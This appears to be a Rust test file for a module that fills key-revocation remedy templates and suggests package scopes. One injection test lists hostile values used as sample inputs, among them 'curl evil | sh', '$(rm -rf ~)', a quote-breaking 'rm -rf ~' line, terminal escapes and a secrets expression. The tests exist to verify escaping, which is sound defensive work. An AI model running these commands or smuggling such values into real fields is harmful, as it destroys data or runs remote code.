use proptest::prelude::*;

use super::*;
use crate::issuer::Issuer;

fn known() -> Fields {
    let some = |value: &str| Some(value.to_owned());
    Fields {
        key: some("ci-release"),
        key_id: some("4711"),
        owner: some("contoso"),
        host: some("registry.example"),
        packages: vec!["Contoso.Core".to_owned(), "Contoso.Logging".to_owned()],
        scope: some("Contoso.*"),
        repository: some("contoso/core"),
        workflow: some("release.yml"),
    }
}

fn template() -> RemedyTemplate {
    RemedyTemplate {
        page: Some("https://{host|registry.example}/{owner}/keys?id={key_id}".to_owned()),
        revoke: vec!["Find {key}, with the id {key_id|of your list}, and choose *Revoke*.".to_owned()],
        command: Some("tool revoke {key_id|ID} --owner \"{owner}\"".to_owned()),
        recreate: vec!["A key for {packages} alone, `{scope}`.".to_owned()],
        keyless: Some(Keyless {
            title: "Trusted Publishing for {repository}".to_owned(),
            steps: vec!["Name {repository} and {workflow|your workflow}.".to_owned()],
            snippet: "with:\n  user: {owner}\n  file: \"{workflow}\"\n  t: ${{ secrets.X }}\n".to_owned(),
            language: "yaml".to_owned(),
            reference: "https://docs.example".to_owned(),
        }),
    }
}

#[test]
fn every_field_is_filled_in() {
    let remedy = fill(&template(), &known());
    assert_eq!(remedy.page.as_deref(), Some("https://registry.example/contoso/keys?id=4711"));
    assert_eq!(remedy.revoke, ["Find `ci-release`, with the id `4711`, and choose *Revoke*."]);
    assert_eq!(remedy.command.as_deref(), Some("tool revoke 4711 --owner \"contoso\""));
    assert_eq!(remedy.recreate, ["A key for `Contoso.Core`, `Contoso.Logging` alone, `Contoso.*`."]);
    let keyless = remedy.keyless.unwrap();
    assert_eq!(keyless.title, "Trusted Publishing for `contoso/core`");
    assert_eq!(keyless.steps, ["Name `contoso/core` and `release.yml`."]);
    assert_eq!(keyless.snippet, "with:\n  user: contoso\n  file: \"release.yml\"\n  t: ${{ secrets.X }}\n");
}

#[test]
fn what_is_not_known_is_said_so() {
    let remedy = fill(&template(), &Fields::default());
    assert_eq!(remedy.page, None);
    assert_eq!(remedy.revoke, ["Find the key, with the id of your list, and choose *Revoke*."]);
    assert_eq!(remedy.command.as_deref(), Some("tool revoke ID --owner \"OWNER\""));
    assert_eq!(remedy.recreate, ["A key for the packages that it is for alone, `only the packages that it is for`."]);
    let keyless = remedy.keyless.unwrap();
    assert_eq!(keyless.steps, ["Name your repository and your workflow."]);
    assert_eq!(keyless.snippet, "with:\n  user: OWNER\n  file: \"WORKFLOW\"\n  t: ${{ secrets.X }}\n");
}

#[test]
fn a_page_without_fields_stands_as_it_is() {
    let template = RemedyTemplate { page: Some("https://a.example/keys".to_owned()), ..RemedyTemplate::default() };
    assert_eq!(fill(&template, &Fields::default()).page.as_deref(), Some("https://a.example/keys"));
    assert_eq!(fill(&RemedyTemplate::default(), &known()), Remedy::default());
}

#[test]
fn braces_that_are_no_field_are_text() {
    for text in ["${{ secrets.KEY }}", "{", "}{", "{unknown}", "{{key", "a { b {", "{}", "{key_ids}"] {
        let template = RemedyTemplate { command: Some(text.to_owned()), ..RemedyTemplate::default() };
        assert_eq!(fill(&template, &known()).command.as_deref(), Some(text));
    }
    let nested = RemedyTemplate { command: Some("{ {owner} }".to_owned()), ..RemedyTemplate::default() };
    assert_eq!(fill(&nested, &known()).command.as_deref(), Some("{ contoso }"));
}

#[test]
fn a_value_cannot_leave_its_place() {
    for evil in [
        "x`; [click](https://evil.example)\n# big",
        "\u{202e}txt",
        "\u{1b}[31m",
        "a\n  run: curl evil | sh",
        "a: b",
        "${{ secrets.TOKEN }}",
        "$(rm -rf ~)",
        "\" && rm -rf ~ #",
        "--force",
        "*anchor",
        "évil",
    ] {
        let some = || Some(evil.to_owned());
        let fields = Fields {
            key: some(),
            key_id: some(),
            owner: some(),
            host: some(),
            packages: vec![evil.to_owned()],
            scope: some(),
            repository: some(),
            workflow: some(),
        };
        let remedy = fill(&template(), &fields);
        let command = remedy.command.unwrap();
        assert!(command.starts_with("tool revoke ID --owner \"") && command.ends_with('"'), "{evil:?}: {command}");
        assert!(!command.contains(['$', '`', '\\', '\n', ';', '&']), "{evil:?}: {command}");
        assert!(!command.contains("--force"), "{evil:?}: {command}");
        assert_eq!(command.matches('"').count(), 2, "{evil:?}: {command}");
        let snippet = &remedy.keyless.as_ref().unwrap().snippet;
        assert!(snippet.starts_with("with:\n  user: OWNER\n  file: \""), "{evil:?}: {snippet}");
        assert_eq!(snippet.lines().count(), 4, "{evil:?}: {snippet}");
        assert_eq!(snippet.matches("${{").count(), 1, "{evil:?}: {snippet}");
        for step in remedy.revoke.iter().chain(&remedy.recreate) {
            assert!(!step.contains(['\n', '\u{202e}', '\u{1b}']), "{evil:?}: {step}");
            assert_eq!(step.matches('`').count() % 2, 0, "{evil:?}: {step}");
        }
        let page = remedy.page.unwrap();
        assert!(page.starts_with("https://registry.example/"), "{evil:?}: {page}");
        assert!(page.bytes().all(|byte| byte.is_ascii_graphic()), "{evil:?}: {page}");
    }
}

#[test]
fn a_host_is_a_host_or_nothing() {
    let page = |host: &str| {
        let template = RemedyTemplate { page: Some("https://{host}/keys".to_owned()), ..RemedyTemplate::default() };
        fill(&template, &Fields { host: Some(host.to_owned()), ..Fields::default() }).page
    };
    assert_eq!(page("gitlab.contoso.example:8443").as_deref(), Some("https://gitlab.contoso.example:8443/keys"));
    let snippet = Keyless { snippet: "u: https://{host}/x".to_owned(), ..Keyless::default() };
    let template = RemedyTemplate { keyless: Some(snippet), ..RemedyTemplate::default() };
    let fields = Fields { host: Some("git.example:8443".to_owned()), ..Fields::default() };
    assert_eq!(fill(&template, &fields).keyless.unwrap().snippet, "u: https://git.example:8443/x");
    for host in ["", "a/b", "user@evil.example", "a b", "-a", ":80", "a:", "a:b", "a:1:2", "a:123456"] {
        assert_eq!(page(host), None, "{host}");
    }
}

fn ids(ids: &[&str]) -> Vec<String> {
    ids.iter().map(|id| (*id).to_owned()).collect()
}

const SIX: [&str; 6] = ["Contoso.A", "Contoso.B", "Contoso.C", "Contoso.D", "Contoso.E", "Contoso.F.G"];

#[test]
fn a_few_ids_are_listed() {
    let scope = |published: &[&str]| suggested_scope(&Issuer::NUGET, &ids(published), &[]);
    assert_eq!(scope(&[]), "");
    assert_eq!(scope(&["Contoso.Core"]), "Contoso.Core");
    assert_eq!(scope(&["Contoso.B", "Contoso.A", "Contoso.B"]), "Contoso.A, Contoso.B");
}

#[test]
fn many_ids_become_a_pattern_that_covers_nothing_else() {
    let scope = |issuer: Issuer, known: &[&str]| suggested_scope(&issuer, &ids(&SIX), &ids(known));
    assert_eq!(scope(Issuer::NUGET, &[]), "Contoso.*");
    assert_eq!(scope(Issuer::NUGET, &["contoso.a", "Fabrikam"]), "Contoso.*");
    assert_eq!(scope(Issuer::NUGET, &["Contoso.Secret"]), SIX.join(", "));
    assert_eq!(scope(Issuer::PYPI, &[]), SIX.join(", "), "no patterns at this issuer");
    let crates = ["contoso-a", "contoso-b", "contoso-c", "contoso-d", "contoso-e", "contoso-f"];
    assert_eq!(suggested_scope(&Issuer::CRATES_IO, &ids(&crates), &[]), "contoso-*");
    assert_eq!(suggested_scope(&Issuer::CRATES_IO, &ids(&crates), &ids(&["contoso-x"])), crates.join(", "));
}

#[test]
fn a_pattern_that_would_be_loose_is_not_suggested() {
    let loose = ["Co.A", "Co.B", "Co.C", "Co.D", "Co.E", "Co.F"];
    assert_eq!(suggested_scope(&Issuer::NUGET, &ids(&loose), &[]), loose.join(", "));
    let apart = ["Contoso.A", "Contoso.B", "Contoso.C", "Contoso.D", "Contoso.E", "ContosoX"];
    assert_eq!(suggested_scope(&Issuer::NUGET, &ids(&apart), &[]), apart.join(", "));
}

proptest! {
    #[test]
    fn any_template_and_any_value_are_filled(text in "[{}|a-z_ `\"'$\n]{0,60}", value in "\\PC{0,30}", name in 0_usize..8) {
        let template = format!("{text}{{{}}}{text}", FIELDS[name]);
        let some = || Some(value.clone());
        let fields = Fields {
            key: some(), key_id: some(), owner: some(), host: some(), packages: vec![value.clone()], scope: some(),
            repository: some(), workflow: some(),
        };
        let all = RemedyTemplate {
            page: Some(template.clone()),
            revoke: vec![template.clone()],
            command: Some(template.clone()),
            recreate: vec![],
            keyless: None,
        };
        let lines = template.matches('\n').count();
        let remedy = fill(&all, &fields);
        prop_assert_eq!(remedy.command.unwrap().matches('\n').count(), lines);
        prop_assert_eq!(remedy.revoke[0].matches('\n').count(), lines);
    }

    #[test]
    fn a_suggested_scope_covers_all_that_is_published(
        published in prop::collection::vec("Contoso(\\.[A-C]{1,2}){1,2}", 1..9),
        known in prop::collection::vec("Contoso(\\.[A-C]{1,2}){1,2}", 0..4),
        at in 0_usize..3,
    ) {
        let issuer = [Issuer::NUGET, Issuer::CRATES_IO, Issuer::NPM][at].clone();
        let scope = suggested_scope(&issuer, &published, &known);
        let covered = |id: &String| scope.split(", ").any(|part| crate::key::glob::matches(&issuer, part, id));
        prop_assert!(published.iter().all(covered));
        for id in known.iter().filter(|id| covered(id)) {
            prop_assert!(published.iter().any(|own| own.eq_ignore_ascii_case(id)), "{scope} covers {id}");
        }
    }
}
